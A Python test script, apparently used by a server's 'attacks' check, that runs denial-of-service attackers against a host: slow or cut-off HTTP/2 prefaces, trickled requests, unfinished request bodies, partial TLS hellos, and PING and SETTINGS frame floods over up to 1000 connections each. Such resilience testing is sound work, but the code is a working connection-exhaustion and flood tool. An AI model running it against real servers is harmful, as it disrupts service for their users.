"""Attackers, each a process of its own: `python attackers.py KIND HOST PORT SECONDS [TOKEN]`. Called by the check
`attacks`, which measures what they do to others.

Each opens its connections at once and holds them for as long as it is let; none is opened again. Slow heads, bodies and
reads are slowhttptest's; here is what that cannot do.
"""

import selectors
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\x04\0\0\0\0\0"
PING = b"\0\0\x08\x06\0\0\0\0\0polywire"
# How TLS begins; what it announces never comes.
HELLO = b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(range(100))
# As many frames as go into one write.
BURST = 1000
# Connections opened in a second: what is measured is what they cost while they are there.
RATE = 400
# From where they come: others share the machine's first address.
SOURCE = "127.0.0.2"


def begun(number):
    """A preface that is cut off, at another place on each connection."""
    return PREFACE[: number % (len(PREFACE) - 1) + 1]


def body(token):
    """A request with a token, whose body never comes to its end."""
    head = "POST /api/stories HTTP/1.1\r\nHost: feeds.example\r\nContent-Type: application/json\r\n"
    return f"{head}Authorization: Bearer {token}\r\nContent-Length: 4096\r\n\r\n{{".encode()


# By kind: how many connections, what they begin with (of the token and the number), what they go on with, and the pause.
KINDS = {
    "silence": (1000, lambda token, number: b"", b"", None),
    "half-preface": (1000, lambda token, number: begun(number), b"", None),
    "idle-preface": (1000, lambda token, number: PREFACE + SETTINGS, b"", None),
    "bodies": (1000, lambda token, number: body(token), b" ", 1.0),
    "trickle": (1000, lambda token, number: b"GET /feeds/world.en.atom HTTP/1.1\r\nHost: feeds.exa", b"m", 1.0),
    "hello": (1000, lambda token, number: HELLO[: number % 100], b"", None),
    "slow-hello": (1000, lambda token, number: HELLO, b"\0", 1.0),
    "pings": (100, lambda token, number: PREFACE + SETTINGS, PING * BURST, 0),
    "settings": (100, lambda token, number: PREFACE + SETTINGS, SETTINGS * BURST, 0),
}


def attack(kind, address, seconds, token):
    count, begin, more, pause = KINDS[kind]
    selector = selectors.DefaultSelector()
    opened = 0
    for number in range(count):
        try:
            attacker = socket.create_connection(address, timeout=5, source_address=(SOURCE, 0))
            attacker.sendall(begin(token, number))
        except OSError:
            continue
        opened += 1
        time.sleep(1 / RATE)
        attacker.setblocking(False)
        wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if pause == 0 else 0)
        selector.register(attacker, wanted)
    print(opened, flush=True)
    ends = time.monotonic() + seconds
    due = time.monotonic()
    while selector.get_map() and time.monotonic() < ends:
        for key, events in selector.select(timeout=0.1):
            go_on(selector, key.fileobj, events, more if pause == 0 else b"")
        if pause and time.monotonic() >= due:
            due += pause
            for key in list(selector.get_map().values()):
                go_on(selector, key.fileobj, selectors.EVENT_WRITE, more)


def go_on(selector, attacker, events, more):
    """Sends more, hears what is answered, and leaves only when it is thrown out."""
    try:
        if events & selectors.EVENT_READ and not attacker.recv(65536):
            raise ConnectionError
        if events & selectors.EVENT_WRITE and more:
            attacker.send(more)
    except BlockingIOError:
        pass
    except OSError:
        selector.unregister(attacker)
        attacker.close()


if __name__ == "__main__":
    attack(sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4]), (sys.argv[5:] or [""])[0])
